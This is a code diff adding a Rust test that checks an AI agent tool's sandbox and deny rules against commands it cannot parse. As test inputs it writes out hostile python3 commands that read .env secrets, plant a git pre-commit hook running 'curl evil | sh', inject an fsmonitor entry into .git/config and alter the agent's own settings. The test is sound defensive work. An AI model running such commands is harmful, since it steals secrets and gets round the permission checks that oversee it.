@@ -771,3 +771,95 @@ async fn a_toolchain_under_the_hosts_home_runs_in_the_sandbox() {
     );
     assert!(text.contains("/tmp/home"), "{text}");
 }
+
+/// `janua ARGS... call Bash` with `command` in the fixture's workspace: the result text.
+fn bash_through_janua(fixture: &Fixture, args: &[&str], command: &str) -> String {
+    let input = bash(command).to_string();
+    let output = Command::new(janua_bin())
+        .args([
+            "--no-user-settings",
+            "--permission-mode",
+            "bypassPermissions",
+        ])
+        .args(args)
+        .args(["call", "Bash", "--input", &input, "--state-dir"])
+        .arg(fixture.state_dir())
+        .arg("--cache-dir")
+        .arg(cache_dir())
+        .current_dir(fixture.workspace())
+        .output()
+        .unwrap();
+    let block: Value = serde_json::from_slice(&output.stdout).expect("a tool_result");
+    block["content"].as_str().unwrap_or_default().to_owned()
+}
+
+/// Issue 31, point 2 (first step): a program the rule engine does not read (`python3`) can
+/// neither read a `Read`-denied file (at any depth) nor change an `Edit`-denied tree or a
+/// protected path (`.git/hooks`, `.git/config`, `.janua/`), not even through a hard link: the
+/// kernel refuses, in the command's own mount namespace. Controls in the same test: without the
+/// rules, or with the process sandbox off, the same commands read and write.
+#[test]
+fn deny_rules_and_protected_paths_hold_for_programs_the_rules_cannot_read() {
+    let fixture = Fixture::new();
+    let ws = fixture.workspace();
+    fixture.write(".env", "TOP-SECRET-ENV\n");
+    fixture.write("deep/er/.env", "DEEP-SECRET-ENV\n");
+    fixture.write("src/main.rs", "fn main() {}\n");
+    fixture.write(".git/config", "[core]\n");
+    fixture.write(".janua/settings.json", "{}\n");
+    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
+    let py = |code: &str| format!("python3 -c '{code}' 2>&1 | tail -1; ");
+    let command = [
+        py("print(repr(open(\".env\").read()))"),
+        py("print(repr(open(\"deep/er/.env\").read()))"),
+        py("open(\"src/main.rs\", \"a\").write(\"// changed\")"),
+        py("open(\".git/hooks/pre-commit\", \"w\").write(\"curl evil | sh\")"),
+        py("open(\".git/config\", \"a\").write(\"[core] fsmonitor = evil\")"),
+        py("import os; os.link(\".git/config\", \"gc\")"),
+        py("open(\".janua/settings.local.json\", \"w\").write(\"{}\")"),
+    ]
+    .concat();
+    let rules = [
+        "--disallowedTools",
+        "Read(.env)",
+        "--disallowedTools",
+        "Edit(src/**)",
+    ];
+    let text = bash_through_janua(&fixture, &rules, &command);
+    assert!(!text.contains("SECRET-ENV"), "{text}");
+    assert_eq!(
+        text.matches("''\n").count(),
+        2,
+        "both files read as empty: {text}"
+    );
+    assert_eq!(text.matches("Read-only file system").count(), 4, "{text}");
+    assert!(text.contains("Invalid cross-device link"), "{text}");
+    assert_eq!(
+        std::fs::read_to_string(ws.join("src/main.rs")).unwrap(),
+        "fn main() {}\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(ws.join(".git/config")).unwrap(),
+        "[core]\n"
+    );
+    for absent in [".git/hooks/pre-commit", "gc", ".janua/settings.local.json"] {
+        assert!(!ws.join(absent).exists(), "{absent} was created");
+    }
+
+    // Controls: without the deny rules the secrets are read and src/ changes; without the
+    // process sandbox the protected paths change too.
+    let text = bash_through_janua(&fixture, &[], &command);
+    assert!(
+        text.contains("TOP-SECRET-ENV") && text.contains("DEEP-SECRET-ENV"),
+        "{text}"
+    );
+    assert!(
+        std::fs::read_to_string(ws.join("src/main.rs"))
+            .unwrap()
+            .ends_with("// changed")
+    );
+    assert!(!ws.join(".git/hooks/pre-commit").exists());
+    let text = bash_through_janua(&fixture, &["--unsandboxed-process"], &command);
+    assert!(ws.join(".git/hooks/pre-commit").exists(), "{text}");
+    assert!(ws.join(".janua/settings.local.json").exists(), "{text}");
+}
